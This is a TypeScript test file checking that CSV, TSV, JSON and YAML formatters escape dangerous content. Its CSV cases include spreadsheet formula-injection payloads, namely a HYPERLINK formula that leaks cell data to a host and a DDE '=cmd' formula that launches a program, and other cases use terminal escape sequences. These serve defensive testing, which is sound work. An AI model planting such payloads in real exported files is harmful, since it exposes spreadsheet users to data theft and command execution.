import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { createPaint } from "../terminal/colour.js";
import { visible } from "../terminal/visible.js";
import { csvLine, csvTitles } from "./csv-text.js";
import { layOutJson, paintJson } from "./json-text.js";
import { tsvLine } from "./tsv-text.js";
import { toYaml } from "./yaml-text.js";

const pipe = { isTerminal: false, safe: visible };
const screen = { isTerminal: true, safe: visible };

describe("csvLine", () => {
  it.each([
    ["=1+1", `"'=1+1"`],
    ['=HYPERLINK("http://e/"&A1)', `"'=HYPERLINK(""http://e/""&A1)"`],
    ["=cmd|'/c calc'!A1", `"'=cmd|'/c calc'!A1"`],
    ["+1", `"'+1"`],
    ["-1", `"'-1"`],
    ["@SUM(A1)", `"'@SUM(A1)"`],
    ["\t=1", `"'\t=1"`],
    ["\r=1", `"'\r=1"`],
    ["\0=1", `"'\0=1"`],
    ["＝1", `"'＝1"`],
    ['a"b', '"a""b"'],
    ["a,b", '"a,b"'],
    ["a\r\nb", '"a\r\nb"'],
    ["plain", '"plain"'],
    ["", '""'],
    [-5, "-5"],
    [true, "true"],
    [null, ""],
    [undefined, ""],
    [{ secs: 1 }, '"{""secs"":1}"'],
  ])("writes %j as %s", (value, cell) => {
    expect(csvLine([value], { terminal: pipe })).toBe(`${cell}\r\n`);
  });

  it("leaves formulas as they are when told so", () => {
    expect(csvLine(["=1+1"], { terminal: pipe, isRaw: true })).toBe('"=1+1"\r\n');
  });

  it("escapes what a terminal would obey, on a terminal only", () => {
    expect(csvLine(["\u001b[2J\n", "\t=1"], { terminal: screen })).toBe('"\\u{1b}[2J\\n","\'\\t=1"\r\n');
    expect(csvLine(["\u001b[2J\n"], { terminal: pipe })).toBe('"\u001b[2J\n"\r\n');
    expect(csvTitles(["plain.name", "\u001b[2J"], { terminal: screen })).toBe('plain.name,"\\u{1b}[2J"\r\n');
  });
});

describe("tsvLine", () => {
  it("escapes what would end a cell", () => {
    expect(tsvLine(["a\tb", "c\nd\\", "=1", 2, null], { terminal: pipe })).toBe(
      "a\\tb\tc\\nd\\\\\t'=1\t2\t\n",
    );
  });

  it("escapes what a terminal would obey, on a terminal only", () => {
    expect(tsvLine(["\u001b\n", "\u202e"], { terminal: screen })).toBe("\\u{1b}\\n\t\\u{202e}\n");
    expect(tsvLine(["\u001b\n", "\u202e"], { terminal: pipe })).toBe("\u001b\\n\t\u202e\n");
  });
});

describe("layOutJson", () => {
  it("is what JSON.stringify lays out, for any value", () => {
    fc.assert(
      fc.property(fc.jsonValue(), (value) => {
        expect(layOutJson(JSON.stringify(value))).toBe(JSON.stringify(value, null, 2));
      }),
      { numRuns: 1000 },
    );
  });

  it("keeps the digits of large integers and ignores the spacing of the source", () => {
    expect(layOutJson('{"a" :18446744073709551615,\t"b":[ ]}')).toBe(
      '{\n  "a": 18446744073709551615,\n  "b": []\n}',
    );
  });
});

describe("paintJson", () => {
  it("adds colour and nothing else", () => {
    const json = '{"a":1,"b":"x:\\"y","c":[true,null,-1.5e3]}';
    const painted = paintJson(json, { hasColour: true, paint: createPaint(true) });
    // biome-ignore lint/suspicious/noControlCharactersInRegex: escape sequences are what it removes
    expect(painted.replace(/\u001b\[\d+m/g, "")).toBe(json);
    expect(painted).toContain('\u001b[36m"a"\u001b[39m:\u001b[33m1\u001b[39m');
  });
});

describe("toYaml", () => {
  it.each([
    "no",
    "1e3",
    "2026-01-01",
    "a\nb\n",
    "~",
    "x: y",
    "\u001b[2J",
    "\u009b31m\u202e",
    "\u{e0041}",
    "=",
    "0o7",
  ])("reads back %j", async (text) => {
    const yaml = await toYaml([{ text, [text]: 1 }]);
    expect(parse(yaml)).toEqual([{ text, [text]: 1 }]);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for
    expect(yaml).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/);
  });
});
